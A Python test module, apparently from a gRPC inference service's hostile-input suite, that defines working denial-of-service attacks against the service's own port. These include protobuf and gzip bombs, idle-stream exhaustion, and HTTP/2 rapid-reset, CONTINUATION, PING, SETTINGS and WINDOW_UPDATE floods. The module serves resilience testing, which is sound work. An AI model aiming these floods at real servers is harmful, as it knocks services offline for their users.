"""Attacks on the gRPC port: each takes its address and goes on until it is killed (`tests.hostile.under_attack`)."""

from __future__ import annotations

import contextlib
import time
from collections.abc import Callable, Mapping
from typing import Any

import numpy as np

from requant_service.http2 import frames
from requant_service.http2.frames import ErrorCode, FrameType, frame, rst_stream, window_update
from tests.support.http2_client import Http2Client, call_of, data, head_of, headers
from tests.support.inference_messages import SERVICE, request_of

TOKEN = "a-token-of-some-length"
BEARER = (("authorization", f"Bearer {TOKEN}"),)

INFER, STREAM = f"/{SERVICE}/ModelInfer", f"/{SERVICE}/ModelStreamInfer"
CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
_CONNECTIONS = 20


def _varint(number: int) -> bytes:
    return bytes([number & 0x7F | 0x80, number >> 7 & 0x7F | 0x80, number >> 14 & 0x7F | 0x80, number >> 21])


def _inside(*tags: int, content: bytes) -> bytes:
    for tag in reversed(tags):
        content = bytes([tag << 3 | 2]) + _varint(len(content)) + content
    return content


def _messages(path: str, message: bytes, *, at_once: int = 1, compression: Any = None) -> Callable[[str], None]:
    """Send a message with grpcio, again and again."""

    def run(address: str) -> None:
        import grpc

        with grpc.insecure_channel(address, options=[("grpc.max_send_message_length", -1)]) as channel:
            method = channel.unary_unary(path)
            while True:
                encoding = {} if compression is None else {"compression": grpc.Compression.Gzip}
                calls = [method.future(message, metadata=BEARER, timeout=60, **encoding) for _ in range(at_once)]
                for call in calls:
                    call.exception()

    return run


def _opened(path: str, streams: int, sent: bytes = b"") -> Callable[[str], None]:
    """Open streams on some connections, and do no more."""

    def run(address: str) -> None:
        clients: list[Http2Client] = []
        while True:
            for _ in range(_CONNECTIONS - len(clients)):
                client = Http2Client(address)
                for number in range(1, 2 * streams, 2):
                    client.send(headers(number, head_of(path, BEARER)) + (data(number, sent) if sent else b""))
                clients.append(client)
            time.sleep(0.5)

    return run


def _flood(piece: Callable[[int], bytes]) -> Callable[[str], None]:
    """Send pieces, each with the number of a stream of its own, as fast as they are taken. Read nothing."""

    def run(address: str) -> None:
        while True:
            with contextlib.suppress(OSError), Http2Client(address) as client:
                client.socket.settimeout(2)
                for number in range(1, 1 << 30, 200):
                    client.send(b"".join(piece(number + each) for each in range(0, 200, 2)))

    return run


def _unread(address: str) -> None:
    """Ask for large replies, and read none of them."""
    x = np.zeros(5_000_000, np.float32)
    message = request_of("dequantize", {"x": x.astype(np.int8)}, {"input_type": "!quant.uniform<i8:f32, 0.5:3>"})
    sent = message.SerializeToString()
    clients = []
    for _ in range(16):
        client = Http2Client(address, window=frames.MAX_WINDOW)
        client.send(headers(1, head_of(INFER, BEARER)))
        body, at = b"\0" + len(sent).to_bytes(4, "big") + sent, 0
        with contextlib.suppress(OSError):
            while at < len(body):
                piece = body[at : at + min(1 << 20, 16_384 + client.incoming.granted.get(1, 0) - at)]
                at += len(piece)
                client.send(data(1, piece, frames.END_STREAM if at == len(body) else 0))
                if not piece and not client.read():
                    break
        clients.append(client)
    time.sleep(60)


_BLOCK = head_of(INFER, BEARER)
_HALF_BLOCK = headers(1, _BLOCK, 0)

ATTACKS: Mapping[str, Callable[[str], None]] = {
    "4,190,000 empty raw_input_contents": _messages(INFER, b"\x3a\0" * 4_190_000),
    "4,190,000 empty inputs": _messages(INFER, b"\x2a\0" * 4_190_000),
    "2,790,000 unknown fields": _messages(INFER, b"\xa2\x06\0" * 2_790_000),
    "4,100,000 elements of bytes_contents": _messages(INFER, _inside(5, 5, content=b"\x42\0" * 4_100_000)),
    "4,100,000 empty parameters of an input": _messages(INFER, _inside(5, content=b"\x22\0" * 4_100_000)),
    "8,000,000 packed elements of bool_contents": _messages(INFER, _inside(5, 5, 1, content=b"\1" * 8_000_000)),
    "72 MiB of unknown fields to Health/Check": _messages(CHECK, _inside(50 % 16, content=bytes(72 << 20))),
    "Health/Check without a message, 100 on each of 20 connections": _opened(CHECK, 100),
    "ModelInfer that promises 60 MiB, 100 on each of 20": _opened(INFER, 100, b"\0" + (60 << 20).to_bytes(4, "big")),
    "idle ModelStreamInfer, 100 on each of 20": _opened(STREAM, 100),
    "Health/Watch, 100 on each of 20": _opened(WATCH, 100, bytes(5)),
    "100 compressed messages of 60 MiB of zeros": _messages(INFER, bytes(60 << 20), at_once=20, compression=True),
    "6 MB compressed to Health/Check": _messages(CHECK, bytes(60 << 20), compression=True),
    "16 replies of 20 MB that nobody reads": _unread,
    "rapid reset": _flood(lambda number: headers(number, _BLOCK) + rst_stream(number, ErrorCode.CANCEL)),
    "calls without end, no reply read": _flood(lambda number: call_of(number, CHECK, b"")),
    "PING": _flood(lambda number: frame(FrameType.PING, 0, 0, bytes(8))),
    "SETTINGS": _flood(lambda number: frame(FrameType.SETTINGS, 0, 0, bytes((0, 4, 0, 0, 255, 255)) * 20)),
    "WINDOW_UPDATE": _flood(lambda number: window_update(0, 1)),
    "empty DATA": _flood(lambda number: (headers(1, _BLOCK) if number == 1 else b"") + data(1, b"") * 10),
    "CONTINUATION": _flood(
        lambda number: _HALF_BLOCK if number == 1 else frame(FrameType.CONTINUATION, 0, 1, bytes(1))
    ),
    "header blocks of 30 KB": _flood(
        lambda number: headers(number, _BLOCK + bytes(9_000)) if number % 10 == 1 else b""
    ),
}
